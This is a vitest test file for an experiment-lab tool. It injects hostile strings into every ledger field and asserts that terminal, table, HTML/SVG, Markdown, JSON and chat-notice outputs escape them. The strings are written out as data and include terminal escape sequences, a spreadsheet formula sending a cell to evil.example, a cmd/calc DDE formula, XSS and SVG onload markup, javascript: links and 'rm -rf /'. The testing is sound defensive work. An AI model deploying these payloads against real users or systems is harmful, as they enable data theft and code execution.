/**
 * Nothing that a candidate, an agent, a person or a ledger wrote reaches a terminal, a table, a page or a notice as
 * anything but text. Every text of a ledger goes through every surface.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { cleanJson, escapeTerminal, escapeTerminalLine, stringifyJson } from '../../src/base/escape.ts';
import { UNSEEN_CLASS } from '../../src/base/text.ts';
import { messageOf, type PayloadShape } from '../../src/notify/notify.ts';
import { reportHtml } from '../../src/render/html.ts';
import { liveWindow } from '../../src/render/live.ts';
import { reportMarkdown } from '../../src/render/markdown.ts';
import { contourSvg } from '../../src/render/contour-plot.ts';
import { parallelSvg, sliceSvg } from '../../src/render/factor-plots.ts';
import { curvesSvg, ganttSvg, paretoSvg, stripSvg } from '../../src/render/plots.ts';
import { showText } from '../../src/render/show.ts';
import { staircaseSvg } from '../../src/render/svg.ts';
import { csvText, markdownTable } from '../../src/render/tables.ts';
import { logText, statusText, summaryText } from '../../src/render/terminal.ts';
import { PLAIN } from '../../src/render/text.ts';
import { resultsTsv } from '../../src/render/tsv.ts';
import { boardOf } from '../../src/view/board.ts';
import { viewExperiment } from '../../src/view/lab/experiment.ts';
import { noticeOf, stallNotice } from '../../src/view/lab/notice.ts';
import { bucketsOf, mainColumn, parseCurve, sameStepText } from '../../src/view/pictures/curve.ts';
import { varyingAxes, viewContour } from '../../src/view/pictures/contour.ts';
import { type FactorsView, viewFactors } from '../../src/view/pictures/factors.ts';
import { viewMachines } from '../../src/view/pictures/machines.ts';
import { viewStaircase } from '../../src/view/pictures/staircase.ts';
import { freePlaces, fullLedger, type PoisonedLab, poisonLab } from './poison.ts';

const ATTACKS: Readonly<Record<string, string>> = {
  'colours and cursor movements': 'a\x1b[31mb\x1b[2Jc\x1b[10;10Hd\x1b[?1049h',
  'a title, a link and the clipboard (OSC)': '\x1b]0;PWNED\x07\x1b]8;;http://evil.example\x1b\\x\x1b]52;c;cm0gLXJm\x07',
  'device control (DCS, APC, PM, SOS)': '\x1bP+q544e\x1b\\\x1b_Gi=1;AAAA\x1b\\\x1b^x\x1b\\\x1bXy\x1b\\',
  'a sequence that never ends': 'x\x1b]0;title and \x1b[31 and \x1bP',
  'eight-bit controls (C1)': '\x9b31m\x9d0;PWNED\x9c\x90q\x9c\x85\x84',
  'turned text': '\u202egnp.exe\u202c \u2066a\u2069\u2067b \u200f\u061c',
  'hidden text': 'a\u200bb\u2060c\ufeffd\u00ade\u200cf\u200dg\u{e0041}\u{e0042}\u180e\u2063',
  'our own colour marks': 'a\ufdd1b\ufdd3c\ufdd0',
  'line ends': 'a\r\nFORGED one\nFORGED two\rFORGED three\u2028FORGED four\u0085FORGED five\x0bFORGED\x0cFORGED',
  'a column': 'a\tFORGED\t9\x00b',
  'a formula': '=HYPERLINK("http://evil.example?x="&A1,"open")',
  'a formula with a sign': "+1+cmd|' /C calc'!A0",
  'a formula behind a tab': '\t=1+1',
  'a formula behind a line end': '\r\n@SUM(1)',
  'a formula of two figures': '-2+3',
  'a wide formula': '＝1+1',
  'markup of HTML': '"><img src=x onerror=alert(1)><script>alert(1)</script><a href="javascript:alert(1)">&lt;',
  'markup of SVG': '\'/></title><svg onload=alert(1)><use href="http://evil.example/x#y"/>',
  'links and pictures of Markdown':
    '![x](http://evil.example/p.png) [y](javascript:alert(1)) <http://evil.example> [z]: http://evil.example',
  'addresses and mentions':
    'see https://evil.example www.evil.example mailto:a@evil.example @someone @everyone <!channel> <@U1> <@&1>',
  'a heading and a list': '# Title **bold** _it_ `code` $x$ ~~no~~',
  fences: '``` \n```sh\nrm -rf /\n~~~\n> quote\n| a | b |\n|---|---|\n---',
  'a command in backticks': '`overnight take \x1b[31m<img src=x>`',
  'half characters': 'a\ud800b\udc00c\ud83d',
};

const OWN_COLOR = /\x1b\[(?:0|1|2|31|32|33|34|36)m/g;
const CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;
const UNSEEN = new RegExp(`[${UNSEEN_CLASS}]`, 'u');
const HALF = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;

function expectQuiet(text: string, name: string): void {
  expect(text, name).not.toMatch(CONTROL);
  // What breaks an address in Markdown and in notices is ours.
  expect(text.replace(/((?:https?|ftp|www|mailto|xmpp)|@)\u200b/gi, '$1'), name).not.toMatch(UNSEEN);
  expect(text, name).not.toMatch(HALF);
}

const base = fullLedger();
let places: readonly string[] = [];
beforeAll(() => {
  places = freePlaces(base);
});

describe('a lab whose every text is hostile', () => {
  it('has texts from everywhere: people, agents, candidates, manifest, machine', () => {
    for (const place of [
      'proposed: hypothesis',
      'proposed: why',
      'proposed: proposer',
      'proposed: edits{}',
      'proposed: knobs{}',
      'proposed: knobs{*}',
      'proposed: note.next[]',
      'proposed: note.mechanism',
      'decided: decision.reason',
      'confirmation: reason',
      'measured: outcome.message',
      'measured: outcome.metrics{}',
      'refused: reason',
      'session.started: device',
      'session.started: gradeReason',
      'session.started: sandbox.reason',
      'session.started: versions{*}',
      'session.ended: detail',
      'session.died: detail',
      'steered: from',
      'steered: wish.text',
      'steered: refused',
      'note: text',
      'calling: agent',
      'calling: model',
      'called: message',
      'lab.opened: tag',
      'lab.opened: arena.name',
      'lab.opened: arena.metric.name',
      'lab.opened: arena.metric.unit',
      'lab.opened: source.commit',
    ])
      expect(places, place).toContain(place);
  });

  for (const [name, attack] of Object.entries(ATTACKS))
    it(`shows ${name} as text on every surface`, () => {
      const lab = poisonLab(base, places, attack);
      checkTerminal(lab, attack);
      checkTables(lab);
      checkMarkup(lab, attack);
      checkMarkdown(lab, attack);
      checkJson(lab);
      checkNotices(lab);
    });
});

function checkTerminal(lab: PoisonedLab, attack: string): void {
  const { view, state, facts } = lab;
  const curve = parseCurve(`step,${attack}loss\n1,2\n2,3\n`);
  const said = curve && sameStepText(curve, curve);
  const tick = { n: 5, purpose: 'idea', wallS: 9, budgetedS: 8, ...(said !== undefined && { said }) };
  for (const style of [PLAIN, { ...PLAIN, color: true }, { color: true, unicode: false, columns: 220 }]) {
    const windowLines = liveWindow(view, [tick], style, { thinking: attack, keys: attack });
    const screens = {
      status: statusText(view, style),
      log: logText(view, style),
      summary: summaryText(view, style, { report: attack }),
      show: state.experiments.map(({ idea }) => showText(viewExperiment(state, idea.n, facts)!, style)).join(''),
      window: windowLines.map((line) => escapeTerminalLine(line, style.color)).join('\n'),
    };
    for (const [name, screen] of Object.entries(screens)) {
      const written = escapeTerminal(screen, style.color);
      expectQuiet(style.color ? written.replace(OWN_COLOR, '') : written, name);
      if (name !== 'summary' && name !== 'show') expect(written, name).not.toMatch(/^\W*FORGED/m);
    }
    expect(screens.status.trimEnd().split('\n').length).toBeLessThanOrEqual(4);
    expect(screens.log.trimEnd().split('\n')).toHaveLength(view.experiments.length + 1);
  }
}

/** A cell that a spreadsheet would compute. */
const isFormula = (cell: string): boolean =>
  /^[\s\u0000-\u001f]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell) && !/^[+-]?[\d,]*\.?\d+(e[+-]?\d+)? ?%?$/i.test(cell);

function parseCsv(text: string): string[][] {
  return text
    .trimEnd()
    .split('\n')
    .map((line) =>
      [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",]*))/g)].map((m) => (m[1] ?? m[2]!).replaceAll('""', '"')),
    );
}

function checkTables({ state, view }: PoisonedLab): void {
  const tsvRows = resultsTsv(state)
    .trimEnd()
    .split('\n')
    .map((line) => line.split('\t'));
  const rows = view.experiments.map((row) => [String(row.n), row.hypothesis, row.reason, row.proposer, row.lines]);
  const raw = state.experiments.map(({ idea }) => ['1', idea.hypothesis, idea.why ?? '', idea.proposer, '2']);
  const table = [['n', view.metric.name, view.arena, 'x', 'y'], ...rows, ...raw];
  const csv = csvText(table);
  expectQuiet(csv, 'csv');
  expectQuiet(resultsTsv(state), 'tsv');
  expect(parseCsv(csv)).toHaveLength(table.length);
  for (const cells of tsvRows) expect(cells).toHaveLength(5);
  for (const cells of parseCsv(csv)) expect(cells).toHaveLength(5);
  expect([...tsvRows, ...parseCsv(csv)].flat().filter(isFormula)).toEqual([]);
  const markdown = markdownTable(table);
  expectQuiet(markdown, 'table in Markdown');
  for (const line of markdown.trimEnd().split('\n')) expect(line.match(/(?<!\\)\|/g)).toHaveLength(6);
}

function pictures({ view, state, facts }: PoisonedLab, attack: string): string[] {
  const factors = viewFactors(state, facts);
  const curve = parseCurve(`step,${attack}loss\n1,2\n2,3\n`);
  return [
    staircaseSvg(viewStaircase(view)),
    staircaseSvg(viewStaircase(view, { x: 'clock', y: 'noise' }), { style: false }),
    ganttSvg(viewMachines(state, facts), 600),
    parallelSvg(factors, 600, view.metric.name),
    ...factors.axes.map((_, index) => sliceSvg(factors, index, 200)),
    ...contours(factors),
    ...(factors.points.length > 0 ? [paretoSvg(factors, 400)] : []),
    stripSvg([{ label: attack, values: [1, 2], text: attack, main: true, mean: 1.5 }], 300),
    ...(curve
      ? [
          curvesSvg([
            { label: attack, data: { columns: curve.columns, column: mainColumn(curve), ...bucketsOf(curve, 1, 10) } },
          ]),
        ]
      : []),
  ];
}

function contours(factors: FactorsView): string[] {
  const [xAxis, yAxis] = varyingAxes(factors);
  const contour = xAxis && yAxis && viewContour(factors, xAxis.name, yAxis.name, 3);
  return contour ? [contourSvg(contour, 400)] : [];
}

const PICTURE_TAGS = ['svg', 'style', 'title', 'desc', 'rect', 'text', 'path', 'circle', 'g', 'polyline'];
const PAGE_TAGS =
  'html head meta title style body main header section figure figcaption h1 h2 p b span br bdi div dl dt dd table thead tbody tr th td details summary pre ul li code'.split(
    ' ',
  );

/** Texts of so many places are in the report, at least: otherwise this test would look at nothing. */
const MIN_PLACES_SHOWN = 18;

function checkMarkup(lab: PoisonedLab, attack: string): void {
  const diffOf = (): string => `--- a/x\n+++ b/x\n@@ -1 +1 @@\n-${attack}\n+${attack}\n`;
  const page = reportHtml(lab.view, { diffOf });
  expect(new Set(page.match(/ x\d+/g)).size).toBeGreaterThan(MIN_PLACES_SHOWN);
  for (const [index, text] of [page, ...pictures(lab, attack)].entries()) {
    expectQuiet(text, 'markup');
    const allowed = index === 0 ? [...PAGE_TAGS, ...PICTURE_TAGS] : PICTURE_TAGS;
    const withoutStyle = text.replace(/<style>[\s\S]*?<\/style>/g, '').replace('<!doctype html>', '');
    const tags = [...withoutStyle.matchAll(/<\/?([^\s>/]*)((?:[^>"]|"[^"]*")*)>/g)];
    expect(tags.map(([, tag]) => tag).filter((tag) => !allowed.includes(tag!))).toEqual([]);
    for (const [, , attributes] of tags) {
      const outside = attributes!.replace(/="[^"]*"/g, '=');
      expect(outside).toMatch(/^[\s\w:=/-]*$/);
      expect(outside).not.toMatch(/\b(on\w+|href|src|srcset|formaction)\s*=/i);
    }
    // Nothing is left of a tag outside those that were read.
    expect(withoutStyle.replace(/<\/?([^\s>/]*)((?:[^>"]|"[^"]*")*)>/g, '')).not.toMatch(/[<>]/);
  }
}

function checkMarkdown({ view }: PoisonedLab, attack: string): void {
  const whole = reportMarkdown(view, { diffOf: () => `+${attack}\n` });
  expectQuiet(whole, 'report.md');
  const withoutBlocks = whole.replace(/^(`{3,})(?:diff|sh)\n[\s\S]*?\n\1$/gm, '');
  expect(withoutBlocks).not.toMatch(/^\s*(```|~~~)/m);
  const bare = withoutBlocks.replace(/`overnight[^`\n]*`/g, '').replace(/\\[\\`*[\]|~$_#=+>.)-]/g, '');
  expect(bare).not.toMatch(/<[a-z/!@#]/i);
  expect(bare).not.toMatch(/`/);
  expect(bare.match(/\]\(/g)).toHaveLength(1);
  expect(bare).not.toMatch(/(https?|ftp):\/|www\.|mailto:|@[\w]/i);
  expect(bare).not.toMatch(/^\W*FORGED/m);
  expect(bare).not.toMatch(/^\[/m);
}

function checkJson({ events, view, state, facts }: PoisonedLab): void {
  const values: unknown[] = [...events.slice(0, 60), view, boardOf(view), viewExperiment(state, 5, facts)];
  for (const value of values) {
    const line = stringifyJson(value);
    expectQuiet(line, 'event stream');
    expect(line).not.toContain('\n');
    expect(JSON.parse(line)).toEqual(JSON.parse(JSON.stringify(value)));
    const shown = cleanJson(JSON.stringify(value));
    expectQuiet(shown, 'page stream');
    for (const text of textsOf(JSON.parse(shown))) expectQuiet(text, 'text of the page');
  }
}

function textsOf(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (value === null || typeof value !== 'object') return [];
  return Object.entries(value).flatMap(([key, inner]) => [key, ...textsOf(inner)]);
}

function checkNotices({ events, view }: PoisonedLab): void {
  const notices = [...events.flatMap((event) => noticeOf(event, view) ?? []), stallNotice(view)];
  expect(new Set(notices.map(({ kind }) => kind)).size).toBeGreaterThan(2);
  for (const notice of notices)
    for (const shape of ['slack', 'discord', 'ntfy', 'json'] satisfies PayloadShape[]) {
      const { body, headers } = messageOf(shape, notice);
      expectQuiet(body, shape);
      for (const header of Object.values(headers)) expect(header).toMatch(/^[\x20-\x7e]*$/);
      if (shape === 'json') continue;
      const text = shape === 'ntfy' ? body : String(Object.values(JSON.parse(body) as Record<string, unknown>)[0]);
      expectQuiet(text, shape);
      expect(text).not.toMatch(/(https?|ftp):\/\/|www\.|@(everyone|someone|here)/i);
      if (shape === 'slack') expect(text).not.toMatch(/[<>]/);
      if (shape === 'discord') {
        expect(text.replace(/\\./g, '')).not.toMatch(/[`*_~|<>[\]]/);
        expect(text.length).toBeLessThanOrEqual(2000);
      }
    }
}
